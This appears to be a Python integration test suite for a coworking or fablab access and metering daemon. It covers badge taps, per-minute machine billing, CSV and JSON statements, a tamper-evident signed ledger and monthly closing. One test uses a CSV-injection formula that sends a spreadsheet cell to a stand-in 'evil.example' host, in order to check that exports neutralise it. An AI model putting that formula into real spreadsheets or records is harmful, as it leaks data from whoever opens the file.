# SPDX-License-Identifier: AGPL-3.0-or-later
"""Metering end to end: taps at entry and exit readers, machine sessions, statements in CSV
and JSON, the signed ledger and period closing, on the real daemon."""

import csv
import io
import json
import os
import signal
import sqlite3
import sys
import time

sys.path.insert(0, os.path.dirname(__file__))
from portier_harness import Daemon, DaemonTest, build_config, main, wait_until  # noqa: E402

SECTIONS = """
[metering]
day_starts = 04:00
closing = {closing}

[reader in]
driver = sim

[reader out]
driver = sim

[reader laser]
driver = sim

[door front]
reader = in
exit_reader = out
relay = 17

[machine laser]
reader = laser
relay = 5
zone = main
handover_seconds = 0
"""

ALICE, BOB = "04A1B2C3", "04B0B0B0"
DAY = 86400


class MeteringBase(DaemonTest):
    closing = ""

    def setUp(self):
        self.d = Daemon(config_text="placeholder")
        self.d.write_config(build_config(self.d.dir, SECTIONS.format(closing=self.closing),
                                         site="lyon"))
        self.d.start()
        ok = self.d.ok
        ok({"cmd": "plan.add", "name": "nomad"})
        ok({"cmd": "plan.billing", "plan": "nomad", "monthly_days": 2, "day_rate_cents": 1500,
            "allowance_order": "pass,plan,rate"})
        ok({"cmd": "rate.set", "plan": "nomad", "target": "laser", "per_hour_cents": 1200,
            "block_minutes": 15, "min_charge_cents": 300, "free_minutes": 5})
        ok({"cmd": "member.add", "name": "Alice", "plan": "nomad"})
        ok({"cmd": "member.add", "name": "Bob", "plan": "nomad"})
        ok({"cmd": "card.add", "member": "Alice", "uid": ALICE})
        ok({"cmd": "card.add", "member": "Bob", "uid": BOB})
        ok({"cmd": "machine.set", "machine": "laser", "booking_required": False,
            "walkup_free_minutes": 0, "hours": "always"})
        # Start at 10:00 local tomorrow, so billing days are predictable.
        self.base = self.advance_to_local(10, 0)

    def advance(self, seconds):
        return self.d.ok({"cmd": "sim.advance", "seconds": int(seconds)})["now"]

    def advance_to_local(self, hour, minute):
        """Move the clock to the next day's HH:MM in the site's zone (Europe/Paris)."""
        os.environ["TZ"] = "Europe/Paris"
        time.tzset()
        now = self.advance(0)
        lt = time.localtime(now + DAY)
        target = int(time.mktime((lt.tm_year, lt.tm_mon, lt.tm_mday, hour, minute, 0, 0, 0, -1)))
        return self.advance(target - now)

    def tap(self, reader, uid):
        return self.d.ok({"cmd": "sim.tap", "reader": reader, "uid": uid})

    def period(self, t=None):
        return time.strftime("%Y-%m", time.localtime(t or self.advance(0)))

    def statement(self, period=None, member=None):
        req = {"cmd": "statement", "period": period or self.period()}
        if member:
            req["member"] = member
        return self.d.ok(req)["statement"]

    def lines(self, kind=None):
        st = self.statement()
        out = [l for m in st["members"] for l in m["lines"]]
        return [l for l in out if kind is None or l["kind"] == kind]

    def verify(self):
        return self.d.ok({"cmd": "ledger.verify"})



class MeteringTest(MeteringBase):
    def test_first_entry_of_the_day_uses_pass_then_plan_then_day_rate(self):
        self.d.ok({"cmd": "pass.add", "member": "Alice", "kind": "days", "quantity": 1})
        allowances = []
        for _ in range(4):
            self.tap("in", ALICE)
            self.tap("in", ALICE)               # a second entry the same day is not charged
            self.tap("out", ALICE)
            self.advance(DAY)
        days = self.lines("day")
        if len({l["billing_day"][:7] for l in days}) > 1:
            self.skipTest("the four days straddle a month boundary")
        self.assertEqual([l["allowance"] for l in days], ["pass", "plan", "plan", "rate"])
        self.assertEqual([l["amount_cents"] for l in days], [0, 0, 0, 1500])
        self.assertEqual(len(self.lines("presence")), 4)
        self.assertTrue(self.verify()["intact"])

    def test_day_boundary_is_the_cutoff_not_midnight(self):
        self.advance_to_local(23, 0)
        self.tap("in", ALICE)
        self.advance(4 * 3600)          # 03:00 next morning: still the same billing day
        self.tap("in", ALICE)
        self.advance(2 * 3600)          # 05:00: a new billing day
        self.tap("in", ALICE)
        days = self.lines("day")
        self.assertEqual(len(days), 2)
        self.assertNotEqual(days[0]["billing_day"], days[1]["billing_day"])

    def test_exit_reader_checks_out_with_duration(self):
        self.tap("in", ALICE)
        self.advance(3 * 3600 + 20)
        reply = self.tap("out", ALICE)
        self.assertTrue(reply["granted"])                  # the exit reader opens the door too
        pres = self.lines("presence")[-1]
        self.assertEqual((pres["quantity"], pres["end_reason"]), (181, "tap_out"))
        self.assertEqual(self.d.ok({"cmd": "presence.list"})["present"], [])

    # -- fablab --
    def test_machine_session_metered_to_the_minute_and_priced(self):
        self.tap("laser", ALICE)
        self.advance(32 * 60)
        self.tap("laser", ALICE)        # finished; handover_seconds = 0: power off now
        m = self.lines("machine")[-1]
        # 32 min - 5 free = 27 min -> 2 started blocks of 15 min = 30 min at 12 €/h = 6.00 €
        self.assertEqual((m["quantity"], m["charged_quantity"], m["amount_cents"]), (32, 32, 600))
        self.tap("laser", ALICE)
        self.advance(7 * 60)
        self.tap("laser", ALICE)
        m = self.lines("machine")[-1]
        # 7 - 5 = 2 min -> one block: 3.00 € (15 min at 12 €/h), the minimum charge: 3.00 €
        self.assertEqual(m["amount_cents"], 300)

    def test_rate_by_category_and_most_specific_rate_wins(self):
        ok = self.d.ok
        ok({"cmd": "plan.add", "name": "maker"})
        ok({"cmd": "member.add", "name": "Carol", "plan": "maker"})
        ok({"cmd": "card.add", "member": "Carol", "uid": "04C0C0C0"})
        ok({"cmd": "machine.set", "machine": "laser", "category": "cutters"})
        ok({"cmd": "rate.set", "plan": "maker", "target": "*", "per_hour_cents": 100})
        ok({"cmd": "rate.set", "plan": "maker", "target": "category:cutters",
            "per_hour_cents": 600})
        # A started minute is billed, and the daemon's clock is the real one moved forward:
        # 30 s short of the hour, so that the real time between the taps (a second boundary
        # under a loaded ctest) never starts a 61st minute.
        self.tap("laser", "04C0C0C0")
        self.advance(60 * 60 - 30)
        self.tap("laser", "04C0C0C0")
        self.assertEqual(self.lines("machine")[-1]["amount_cents"], 600)    # the category rate
        ok({"cmd": "rate.set", "plan": "maker", "target": "laser", "per_hour_cents": 900})
        self.tap("laser", "04C0C0C0")
        self.advance(60 * 60 - 30)
        self.tap("laser", "04C0C0C0")
        self.assertEqual(self.lines("machine")[-1]["amount_cents"], 900)    # the machine's own

    def test_statement_across_the_spring_forward_night(self):
        # 2027-03-28 01:30 CET; at 02:00 the clock jumps to 03:00 CEST.
        os.environ["TZ"] = "Europe/Paris"
        time.tzset()
        target = int(time.mktime((2027, 3, 28, 1, 30, 0, 0, 0, 0)))
        now = self.advance(0)
        while now < target:
            now = self.advance(min(target - now, 80 * DAY))
        self.tap("laser", ALICE)
        self.advance(60 * 60)           # one real hour: the wall clock shows 03:30 CEST
        self.tap("laser", ALICE)
        st = self.statement("2027-03")
        m = [l for mm in st["members"] for l in mm["lines"] if l["kind"] == "machine"][-1]
        # Metered in real minutes, on the billing day that began the evening before.
        self.assertEqual((m["quantity"], m["billing_day"]), (60, "2027-03-27"))
        # 60 - 5 free = 55 min -> 4 started blocks of 15 min = 60 min at 12 €/h = 12.00 €
        self.assertEqual(m["amount_cents"], 1200)
        self.assertEqual(time.strftime("%H:%M", time.localtime(m["ended_at"])), "03:30")

    def test_minutes_pass_used_before_the_rate(self):
        self.d.ok({"cmd": "pass.add", "member": "Alice", "kind": "minutes", "quantity": 20,
                   "target": "laser"})
        self.tap("laser", ALICE)
        self.advance(50 * 60)
        self.tap("laser", ALICE)
        m = self.lines("machine")[-1]
        self.assertEqual((m["pass_quantity"], m["charged_quantity"]), (20, 30))
        # 30 - 5 free = 25 -> 2 blocks -> 6.00 €
        self.assertEqual(m["amount_cents"], 600)
        passes = self.d.ok({"cmd": "pass.list", "member": "Alice"})["passes"]
        self.assertEqual(passes[0]["remaining"], 0)

    def test_kill9_with_open_sessions_closes_them_as_interrupted_without_losing_seq(self):
        self.tap("laser", ALICE)
        self.tap("in", BOB)
        self.advance(3 * 60)            # the session is seen alive 3 minutes in
        before = self.verify()["entries"]
        self.d.stop(signal.SIGKILL)
        self.d.start()
        m = self.lines("machine")[-1]
        self.assertEqual(m["end_reason"], "interrupted")
        # Closed when it was last seen alive: 3 minutes in (plus the real seconds the test
        # itself took), metered to the started minute.
        seen = m["ended_at"] - m["started_at"]
        self.assertTrue(180 <= seen < 240, seen)
        self.assertEqual(m["quantity"], (seen + 59) // 60)
        v = self.verify()
        self.assertTrue(v["intact"], v)
        self.assertEqual(v["entries"], before + 1)
        db = sqlite3.connect(os.path.join(self.d.dir, "state", "portier.db"))
        seqs = [r[0] for r in db.execute("SELECT seq FROM ledger ORDER BY seq")]
        self.assertEqual(seqs, list(range(1, len(seqs) + 1)))   # gap-free, no duplicate
        usage = [r[0] for r in db.execute("SELECT ledger_seq FROM usage ORDER BY id")]
        self.assertEqual(sorted(usage), seqs)

    # -- statements --
    def test_statement_csv_and_french_variant(self):
        self.tap("in", ALICE)
        self.tap("laser", ALICE)
        self.advance(32 * 60)
        self.tap("laser", ALICE)
        period = self.period()
        code, out, _ = self.d.ctl("statement", "--period", period, "--format", "csv")
        rows = list(csv.DictReader(io.StringIO(out)))
        machine = [r for r in rows if r["kind"] == "machine"][0]
        self.assertEqual((machine["member"], machine["amount"], machine["currency"]),
                         ("Alice", "6.00", "EUR"))
        code, out, _ = self.d.ctl("statement", "--period", period, "--format", "csv-fr")
        self.assertTrue(out.startswith("\ufeff"))
        rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff")), delimiter=";"))
        self.assertEqual([r for r in rows if r["kind"] == "machine"][0]["amount"], "6,00")
        code, out, _ = self.d.ctl("statement", "--period", period, "--format", "csv", "--summary")
        summary = list(csv.DictReader(io.StringIO(out)))
        self.assertEqual([(r["member"], r["amount"]) for r in summary], [("Alice", "6.00")])
        st = json.loads(self.d.ctl("statement", "--period", period, "--format", "json")[1])
        self.assertEqual(st["totals"]["amount_cents"], 600)

    def test_statement_csv_writes_formulas_as_text(self):
        # A member who names themselves as a formula must not run it in the spreadsheet
        # of whoever opens the statement (OWASP "CSV injection"): the cell starts with an
        # apostrophe; the other cells are written as before.
        name = '=HYPERLINK("http://evil.example/?"&A1,"Invoice")'
        self.d.ok({"cmd": "member.add", "name": name, "plan": "nomad"})
        self.d.ok({"cmd": "card.add", "member": name, "uid": "04C0C0C0"})
        self.tap("in", "04C0C0C0")
        period = self.period()
        for fmt, delimiter in (("csv", ","), ("csv-fr", ";")):
            code, out, _ = self.d.ctl("statement", "--period", period, "--format", fmt)
            self.assertEqual(code, 0)
            self.assertIn("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1", out)
            rows = list(csv.DictReader(io.StringIO(out.lstrip("\ufeff")), delimiter=delimiter))
            self.assertEqual([r["member"] for r in rows], ["'" + name])
            self.assertEqual(rows[0]["amount"], "0.00" if fmt == "csv" else "0,00")  # plan day

    # -- ledger --
    def test_ledger_verify_names_an_altered_entry(self):
        for _ in range(3):
            self.tap("in", ALICE)
            self.tap("out", ALICE)
            self.advance(DAY)
        v = self.verify()
        self.assertTrue(v["intact"])
        n = v["entries"]
        self.assertGreaterEqual(n, 6)
        key = self.d.ok({"cmd": "site.key"})["public_key"]
        self.assertEqual(len(key), 64)
        self.d.stop()
        path = os.path.join(self.d.dir, "state", "portier.db")
        db = sqlite3.connect(path)
        db.execute("DROP TRIGGER ledger_no_update")
        db.execute("DROP TRIGGER ledger_no_delete")
        db.execute("UPDATE ledger SET amount_cents = amount_cents + 100 WHERE seq = 3")
        db.commit()
        db.close()
        self.d.start()
        v = self.verify()
        self.assertEqual((v["intact"], v["first_broken_seq"]), (False, 3))
        code, out, _ = self.d.ctl("ledger", "verify", check=False)
        self.assertEqual(code, 1)           # scripts and cron jobs see the failure
        self.assertIn("LEDGER BROKEN at entry 3", out)

    def test_ledger_verify_names_a_deleted_entry(self):
        for _ in range(2):
            self.tap("in", ALICE)
            self.tap("out", ALICE)
            self.advance(DAY)
        self.d.stop()
        db = sqlite3.connect(os.path.join(self.d.dir, "state", "portier.db"))
        db.execute("DROP TRIGGER ledger_no_delete")
        db.execute("DELETE FROM ledger WHERE seq = 2")
        db.commit()
        self.d.start()
        self.assertEqual(self.verify()["first_broken_seq"], 2)
        db.close()

    def test_triggers_refuse_editing_usage_and_ledger(self):
        self.tap("in", ALICE)
        db = sqlite3.connect(os.path.join(self.d.dir, "state", "portier.db"))
        for sql in ("UPDATE ledger SET amount_cents = 0", "DELETE FROM ledger",
                    "UPDATE usage SET amount_cents = 0", "DELETE FROM usage"):
            with self.assertRaises(sqlite3.DatabaseError, msg=sql):
                db.execute(sql)
        db.close()

    def test_correction_is_a_new_entry(self):
        self.tap("in", ALICE)
        self.tap("in", BOB)
        seq = self.lines("day")[0]["ledger_seq"]
        reply = self.d.ok({"cmd": "usage.correct", "seq": seq, "amount_cents": -500,
                           "note": "badge left at home"})
        corr = [l for l in self.lines("correction")]
        self.assertEqual((corr[0]["corrects_seq"], corr[0]["amount_cents"]), (seq, -500))
        self.assertEqual(reply["seq"], self.verify()["entries"])
        self.assertTrue(self.verify()["intact"])

    # -- periods --
    def test_period_close_seals_and_writes_a_signed_archive(self):
        self.tap("in", ALICE)
        period = self.period()
        reply = self.d.request({"cmd": "period.close", "period": period})
        self.assertEqual(reply["code"], "not_over")
        # Move to the next month and close.
        now = self.advance(0)
        lt = time.localtime(now)
        nxt = int(time.mktime((lt.tm_year + (lt.tm_mon == 12), lt.tm_mon % 12 + 1, 2, 12, 0, 0, 0,
                               0, -1)))
        self.advance(nxt - now)
        reply = self.d.ok({"cmd": "period.close", "period": period})
        archive = reply["archive"]
        with open(archive, "rb") as f:
            body = f.read()
        doc = json.loads(body)
        self.assertEqual((doc["site"], doc["period"]), ("lyon", period))
        self.assertEqual(doc["statement"]["totals"]["days"], 1)
        import hashlib
        with open(archive + ".sha256") as f:
            self.assertEqual(f.read().split()[0], hashlib.sha256(body).hexdigest())
        with open(archive + ".sig") as f:
            self.assertEqual(len(f.read().strip()), 128)
        # Late records dated inside the closed period are refused.
        reply = self.d.request({"cmd": "usage.add", "member": "Bob",
                                "at": nxt - 10 * DAY})
        self.assertEqual((reply["ok"], reply["code"]), (False, "period_closed"))
        reply = self.d.request({"cmd": "period.close", "period": period})
        self.assertEqual(reply["code"], "closed")
        self.assertTrue(self.verify()["intact"])


class ClosingTest(MeteringBase):
    closing = "22:00"

    def test_everyone_checked_out_at_closing(self):
        self.tap("in", ALICE)
        self.tap("in", BOB)
        self.advance_to_local(21, 59)
        self.assertEqual(len(self.d.ok({"cmd": "presence.list"})["present"]), 2)
        self.advance(61)                # 22:00: closing
        self.assertEqual(self.d.ok({"cmd": "presence.list"})["present"], [])
        reasons = {l["end_reason"] for l in self.lines("presence")}
        self.assertEqual(reasons, {"closing"})


if __name__ == "__main__":
    main()
